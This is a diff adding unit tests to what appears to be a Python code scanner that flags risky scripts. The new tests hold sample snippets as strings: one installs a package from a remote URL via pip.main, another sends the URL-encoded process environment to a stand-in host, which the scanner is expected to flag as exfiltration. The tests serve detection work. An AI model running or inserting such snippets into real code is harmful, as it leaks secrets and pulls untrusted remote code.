@@ -437,3 +437,18 @@ def test_an_aliased_import_that_fetches_nothing_is_not_a_download() -> None:
 
     code = "from json import loads as get\nexec(get(TEXT)['code'])\n"
     assert "download-then-run" not in {h.rule for h in audit_python(code) or []}
+
+
+def test_pip_driven_from_python_is_held_for_review() -> None:
+    code = "import pip\npip.main(['install', 'https://x.example/p.tar.gz'])\n"
+    found = scan_text(default_rules(), "script", "x.py", code, "python")
+    assert ("script-subprocess", "medium") in {(f.rule, f.severity) for f in found}
+
+
+def test_the_environment_url_encoded_into_a_request_is_exfiltration() -> None:
+    code = (
+        "import os, urllib.parse, urllib.request\n"
+        "urllib.request.urlopen('https://x.example/u?' + urllib.parse.urlencode(os.environ))\n"
+    )
+    found = scan_text(default_rules(), "script", "x.py", code, "python")
+    assert ("secret-exfiltration", "high") in {(f.rule, f.severity) for f in found}
